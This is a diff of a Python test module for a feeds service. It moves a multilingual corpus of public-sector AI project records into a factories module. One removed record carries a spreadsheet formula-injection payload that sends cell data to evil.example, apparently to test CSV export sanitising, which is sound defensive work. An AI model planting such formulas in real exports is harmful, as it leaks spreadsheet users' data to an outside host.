@@ -9,7 +9,7 @@ import io
 import json
 import xml.etree.ElementTree as ET
 from collections.abc import Callable, Iterator
-from datetime import UTC, datetime
+from datetime import datetime
 from email.utils import parsedate_to_datetime
 from pathlib import Path
 from urllib.parse import unquote
@@ -24,81 +24,12 @@ from erfa.service.api.routers.feeds import CSV_COLUMNS, FEED_FALLBACK, feed_size
 from erfa.service.pages import i18n
 from erfa.service.settings import Settings
 from tests._ops import set_close_match
-from tests.test_index import rec
+from tests.factories import FEED_CORPUS as CORPUS
+from tests.factories import FEED_NEED as NEED
+from tests.factories import when
 
 A = "{http://www.w3.org/2005/Atom}"
 XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
-NEED = "chatbot for byggesøknader"
-
-
-def when(day: int) -> datetime:
-    return datetime(2025, 3, day, 12, 0, tzinfo=UTC)
-
-
-CORPUS = [
-    rec(
-        "1",
-        "Chatbot for byggesaker",
-        "Innbyggerne får svar på spørsmål om byggesøknader fra en chatbot døgnet rundt.",
-        organisation="Askøy kommune",
-        country="NO",
-        status="implemented",
-        sector="building_maps",
-        start_year=2021,
-        link="https://askoy.example/chatbot",
-        updated_at=when(2),
-    ),
-    rec(
-        "2",
-        "Taligenkänning i vården",
-        "Läkare dikterar journalanteckningar som automatiskt blir text.",
-        organisation="Region Örebro län",
-        country="SE",
-        updated_at=when(9),
-    ),
-    rec(
-        "3",
-        "Prognose for snømåking",
-        "Vi varsler når veiene må brøytes ut fra værdata og tidligere brøyting.",
-        organisation="Tromsø kommune",
-        country="NO",
-        updated_at=when(5),
-    ),
-    rec(
-        "4",
-        "Skovovervågning med satellitbilleder",
-        "Vi finder stormfald og barkbiller i statsskovene ud fra satellitbilleder.",
-        organisation="Naturstyrelsen",
-        country="DK",
-        updated_at=when(1),
-    ),
-    rec(
-        "5",
-        '=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")',
-        "-2+3 chatbot som svarer på byggesøknader & <b>mer</b>.",
-        organisation="@Fjordby <kommune>",
-        country="NO",
-        status="pilot",
-        start_year=2023,
-        updated_at=when(7),
-    ),
-    rec(
-        "6",
-        "Automatisk journalføring av e-post",
-        "Innkommende e-post arkiveres i riktig sak.",
-        organisation="Bergen kommune",
-        country="NO",
-        updated_at=when(3),
-    ),
-    rec(
-        "7",
-        "Robotstøvsuger i biblioteket",
-        "En robot som rydder bøker tilbake på hyllene.",
-        organisation="Deichman",
-        country="NO",
-        updated_at=when(4),
-    ),
-]
 
 
 @pytest.fixture
